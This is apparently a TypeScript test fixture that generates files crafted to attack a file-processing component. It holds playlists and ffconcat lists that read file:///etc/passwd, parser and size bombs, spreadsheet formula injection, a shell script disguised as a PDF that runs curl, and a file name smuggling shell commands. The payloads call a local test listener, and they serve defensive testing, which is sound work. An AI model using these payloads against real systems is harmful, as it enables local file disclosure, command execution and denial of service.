/** Files crafted to attack their reader. Those with an address use `url`, where a test listens. */
import { hostileArchives, hostileDocuments } from './hostile-documents.fixture.ts';
import { hostileImages, hostileVectorImages } from './hostile-images.fixture.ts';
import { noise, type Raw } from './hostile-parts.fixture.ts';
import { hostilePdfs } from './hostile-pdfs.fixture.ts';

export type HostileFile = Raw & { content: Buffer };

/** Every hostile file, or one of each attack. All are small, whatever size they decompress to. */
export function hostileFiles(url: string, { isEvery }: { isEvery: boolean }): HostileFile[] {
  return [
    ...hostileImages(),
    ...hostileVectorImages(url),
    ...hostilePdfs(url),
    ...hostileArchives(url),
    ...hostileDocuments(url),
    ...others(url),
  ]
    .filter(({ repeats }) => isEvery || repeats !== true)
    .map((file) => ({ ...file, content: Buffer.from(file.content) }));
}

function others(url: string): Raw[] {
  const playlist = `#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n${url}/a.ts\n#EXTINF:9,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n`;
  const concat = `ffconcat version 1.0\nfile '${url}/b.mp4'\nfile 'file:///etc/passwd'\n`;
  const movie = Buffer.from('\0\0\0\x18ftypisom\0\0\x02\0isomiso2', 'latin1');
  return [
    { what: 'a playlist that calls itself a video', name: 'a.mp4', content: playlist },
    { what: 'a playlist of a stream', name: 'b.mts', content: playlist, repeats: true },
    { what: 'a list of videos that calls itself one', name: 'c.avi', content: concat },
    {
      what: 'a playlist behind the first bytes of a video',
      name: 'd.mp4',
      content: Buffer.concat([movie, Buffer.from(playlist)]),
    },
    {
      what: 'a playlist behind the first bytes of another',
      name: 'e.avi',
      content: `RIFF\xff\xff\0\0AVI LIST${playlist}`,
      repeats: true,
    },
    {
      what: 'a description of a stream of pictures elsewhere',
      name: 'f.mpg',
      content: `<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>${url}/dash</BaseURL></MPD>`,
    },
    {
      what: 'a video whose index has no end',
      name: 'g.mp4',
      content: Buffer.concat([movie, Buffer.from('\xff\xff\xff\xffmoov\0\0\0\x08trak', 'latin1'), noise(5_000)]),
    },
    {
      what: 'a video of noise',
      name: 'h.mkv',
      content: Buffer.concat([
        Buffer.from('1a45dfa3a342868101', 'hex'),
        Buffer.from('\x42\x82\x88matroska', 'latin1'),
        noise(50_000),
      ]),
    },
    {
      what: 'a text of one line of four million letters',
      name: 'a.txt',
      content: 'A'.repeat(4_000_000),
      rendered: true,
    },
    {
      what: 'a text that is markup and control characters',
      name: 'b.txt',
      content: `</text><image href="${url}/txt"/>&x;]]>\u0001\u001b[2J\uffff\ud800\u202e`,
      rendered: true,
    },
    { what: 'a table of a million columns', name: 'a.csv', content: ','.repeat(1_000_000), rendered: true },
    {
      what: 'a table with a quotation that never ends',
      name: 'b.csv',
      content: `"${'a""'.repeat(300_000)}`,
      rendered: true,
    },
    {
      what: 'a table that asks a web service',
      name: 'c.csv',
      content: `=WEBSERVICE("${url}/csv"),=cmd|' /C calc'!A0`,
      rendered: true,
    },
    {
      what: 'a program that calls itself a picture',
      name: 'f.png',
      content: Buffer.from('\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0', 'latin1'),
    },
    {
      what: 'a script that calls itself a PDF',
      name: 'p.pdf',
      content: `#!/bin/sh\ntouch /tmp/owned\ncurl ${url}/sh\n`,
    },
    {
      what: 'a name that would be options and commands',
      name: '-i $(touch owned) `id` ; & %s.mp4',
      content: noise(100),
    },
  ];
}
